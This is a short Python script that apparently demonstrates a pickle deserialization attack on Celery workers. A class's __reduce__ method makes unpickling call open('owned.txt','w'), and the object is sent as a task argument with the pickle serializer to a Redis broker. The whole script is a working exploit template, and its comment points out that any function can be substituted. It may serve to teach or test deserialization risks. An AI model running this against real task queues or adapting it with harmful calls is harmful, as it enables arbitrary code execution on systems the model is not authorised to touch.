import sys

from celery import Celery


class Order:
    def __reduce__(self) -> tuple:
        # What pickle is told to call when it rebuilds the object: any function.
        return open, ("owned.txt", "w")


app = Celery(broker="redis://localhost:6379/0")
task, queue = sys.argv[1:]
app.send_task(task, [Order()], serializer="pickle", queue=queue)
